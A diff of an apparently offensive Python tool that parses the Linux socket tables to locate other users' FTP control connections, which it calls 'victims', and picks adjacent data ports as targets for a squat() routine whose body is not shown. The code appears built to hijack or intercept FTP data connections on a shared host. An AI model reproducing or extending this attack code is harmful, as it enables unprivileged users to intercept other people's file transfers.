@@ -40,43 +40,39 @@ def addr_of(hexaddr):
     return socket.inet_ntop(socket.AF_INET6, words)
 
 
-def targets():
-    """(address, port) of every listener next to a control connection to the FTP port."""
-    controls, listeners, peers = set(), set(), set()
+def rows():
+    """Every row of the socket table, split: any user may read it."""
     for table in ("/proc/net/tcp", "/proc/net/tcp6"):
         try:
-            rows = open(table).read().splitlines()[1:]
+            lines = open(table).read().splitlines()[1:]
         except OSError:
             continue
-        for row in rows:
-            f = row.split()
-            (la, lp), (_, rp), st = f[1].split(":"), f[2].split(":"), f[3]
-            if st == "01" and int(rp, 16) == ftp_port:
-                controls.add((addr_of(la), int(lp, 16)))
-            elif st == "01" and int(lp, 16) == ftp_port:
-                peers.add((addr_of(f[2].split(":")[0]), int(rp, 16)))
-            elif st == "0A":
-                listeners.add((addr_of(la), int(lp, 16)))
-    if far:
-        return sorted({(a, p - 1) for a, p in peers})
-    near = {(a, p - d) for a, p in controls for d in (0, 1)}
-    return [t for t in listeners if t in near]
+        yield from (line.split() for line in lines)
 
 
 def controls():
     """(address, port) of our victims' control connections to the FTP port."""
     found = set()
-    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
-        try:
-            rows = open(table).read().splitlines()[1:]
-        except OSError:
-            continue
-        for row in rows:
-            f = row.split()
-            (la, lp), (_, rp) = f[1].split(":"), f[2].split(":")
-            if f[3] == "01" and int(rp, 16) == ftp_port:
-                found.add((addr_of(la), int(lp, 16)))
+    for f in rows():
+        (la, lp), (_, rp) = f[1].split(":"), f[2].split(":")
+        if f[3] == "01" and int(rp, 16) == ftp_port:
+            found.add((addr_of(la), int(lp, 16)))
     return found
+
+
+def targets():
+    """(address, port) of every listener next to a control connection to the FTP port; far from
+    it, P-1 of every control connection that reached the FTP port here."""
+    if far:
+        peers = set()
+        for f in rows():
+            (_, lp), (ra, rp) = f[1].split(":"), f[2].split(":")
+            if f[3] == "01" and int(lp, 16) == ftp_port:
+                peers.add((addr_of(ra), int(rp, 16) - 1))
+        return sorted(peers)
+    near = {(a, p - d) for a, p in controls() for d in (0, 1)}
+    listening = {(addr_of(f[1].split(":")[0]), int(f[1].split(":")[1], 16)) for f in rows() if f[3] == "0A"}
+    return [t for t in listening if t in near]
 
 
 def squat():
